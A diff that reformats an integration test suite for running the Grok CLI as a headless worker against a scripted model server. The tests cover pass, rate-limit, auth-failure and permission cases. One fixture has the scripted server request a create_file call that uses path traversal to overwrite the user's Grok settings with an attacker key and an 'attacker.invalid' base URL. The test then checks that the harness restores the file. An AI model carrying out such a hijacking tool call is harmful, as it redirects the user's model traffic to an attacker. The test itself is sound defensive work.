@@ -35,7 +35,12 @@ describe(`real Grok CLI against the scripted model server (${ISOLATED ? 'loopbac
       // asking, inside the sandbox, where ~/.grok is writable and the state guard puts the file back.
       permission: {
         ...base,
-        server: { askTool: { name: 'create_file', input: { path: '../../user-home/.grok/user-settings.json', content: '{"apiKey": "sk-attacker", "baseURL": "http://attacker.invalid/v1"}\n' } } },
+        server: {
+          askTool: {
+            name: 'create_file',
+            input: { path: '../../user-home/.grok/user-settings.json', content: '{"apiKey": "sk-attacker", "baseURL": "http://attacker.invalid/v1"}\n' },
+          },
+        },
         seedHome: (home) => {
           fs.mkdirSync(path.join(home, '.grok'), { recursive: true });
           fs.writeFileSync(path.join(home, '.grok', 'user-settings.json'), USER_SETTINGS);
@@ -49,32 +54,66 @@ describe(`real Grok CLI against the scripted model server (${ISOLATED ? 'loopbac
     const r = run('pass');
     assert.equal(r.result.exitCode, 0, explainRun(r));
     const row = r.rows[0] as Record<string, unknown>;
-    assert.deepEqual([row.verdict, row.worker_engine, row.harness, row.model, row.sandbox, row.worker_exit_code], ['PASS', 'grok', 'grok-cli', MODEL, SANDBOX, 0], explainRun(r));
+    assert.deepEqual(
+      [row.verdict, row.worker_engine, row.harness, row.model, row.sandbox, row.worker_exit_code],
+      ['PASS', 'grok', 'grok-cli', MODEL, SANDBOX, 0],
+      explainRun(r),
+    );
     assert.deepEqual([row.tokens_in, row.tokens_out, row.worker_tokens, row.cost_microusd, row.reported_model], [null, null, null, null, null]);
-    assert.deepEqual(r.server.requests.filter((q) => q.api === 'chat').map((q) => [q.reply, q.tool, (q.body as { model?: string }).model]), [['tool_call', 'bash', MODEL], ['final', null, MODEL]], explainRun(r));
+    assert.deepEqual(
+      r.server.requests.filter((q) => q.api === 'chat').map((q) => [q.reply, q.tool, (q.body as { model?: string }).model]),
+      [
+        ['tool_call', 'bash', MODEL],
+        ['final', null, MODEL],
+      ],
+      explainRun(r),
+    );
     assert.equal(fs.readFileSync(path.join(r.dir, 'work', 'alpha', 'alpha.txt'), 'utf8'), 'alpha ready\n');
   });
 
   it('one 429 is retried by grok itself: one attempt, PASS', () => {
     const r = run('absorbed');
-    assert.deepEqual(r.rows.map((x) => [x.attempt, x.verdict]), [[1, 'PASS']], explainRun(r));
-    assert.deepEqual(r.server.requests.filter((q) => q.api === 'chat').map((q) => q.reply), ['rate_limited', 'tool_call', 'final'], explainRun(r));
+    assert.deepEqual(
+      r.rows.map((x) => [x.attempt, x.verdict]),
+      [[1, 'PASS']],
+      explainRun(r),
+    );
+    assert.deepEqual(
+      r.server.requests.filter((q) => q.api === 'chat').map((q) => q.reply),
+      ['rate_limited', 'tool_call', 'final'],
+      explainRun(r),
+    );
   });
 
   it('429s past its own retries (grok exits 0 and says so in its last message) are RATE_LIMITED and requeued; the requeue PASSes', () => {
     const r = run('limited');
-    assert.deepEqual(r.rows.map((x) => [x.attempt, x.verdict, x.worker_exit_code]), [[1, 'RATE_LIMITED', 0], [2, 'PASS', 0]], explainRun(r));
+    assert.deepEqual(
+      r.rows.map((x) => [x.attempt, x.verdict, x.worker_exit_code]),
+      [
+        [1, 'RATE_LIMITED', 0],
+        [2, 'PASS', 0],
+      ],
+      explainRun(r),
+    );
   });
 
   it('a key the API refuses (401): the attempt FAILs and the notes name the auth error', () => {
     const r = run('badKey');
-    assert.deepEqual(r.rows.map((x) => [x.attempt, x.verdict]), [[1, 'FAIL']], explainRun(r));
+    assert.deepEqual(
+      r.rows.map((x) => [x.attempt, x.verdict]),
+      [[1, 'FAIL']],
+      explainRun(r),
+    );
     assert.match(String(r.rows[0]?.notes), /; the engine reported an error \(auth\)$/, explainRun(r));
   });
 
   it('no key and no settings: the attempt FAILs and the notes name the auth error; verdict doctor says grok is not logged in and names the fix', async () => {
     const r = run('noKey');
-    assert.deepEqual(r.rows.map((x) => [x.attempt, x.verdict]), [[1, 'FAIL']], explainRun(r));
+    assert.deepEqual(
+      r.rows.map((x) => [x.attempt, x.verdict]),
+      [[1, 'FAIL']],
+      explainRun(r),
+    );
     assert.match(String(r.rows[0]?.notes), /\(auth\)/, explainRun(r));
     assert.equal(r.server.usageSent.calls, 0);
     const { entry: grok, json, text } = await doctorOf('grok', r);
@@ -95,8 +134,16 @@ describe(`real Grok CLI against the scripted model server (${ISOLATED ? 'loopbac
   it("a file edit a session would ask for is done without asking (headless): the run never waits for input and PASSes; the user's ~/.grok/user-settings.json is put back byte-identical", () => {
     const r = run('permission');
     assert.equal(r.result.exitCode, 0, explainRun(r));
-    assert.deepEqual(r.rows.map((x) => x.verdict), ['PASS'], explainRun(r));
-    assert.deepEqual(r.server.requests.filter((q) => q.api === 'chat').map((q) => q.tool), ['create_file', 'bash', null], explainRun(r));
+    assert.deepEqual(
+      r.rows.map((x) => x.verdict),
+      ['PASS'],
+      explainRun(r),
+    );
+    assert.deepEqual(
+      r.server.requests.filter((q) => q.api === 'chat').map((q) => q.tool),
+      ['create_file', 'bash', null],
+      explainRun(r),
+    );
     assert.match(String(r.result.all), /alpha {2}the worker changed grok's own settings; put back: \S+\/user-home\/\.grok\/user-settings\.json/, explainRun(r));
     assert.equal(fs.readFileSync(path.join(r.userHome, '.grok', 'user-settings.json'), 'utf8'), USER_SETTINGS);
   });
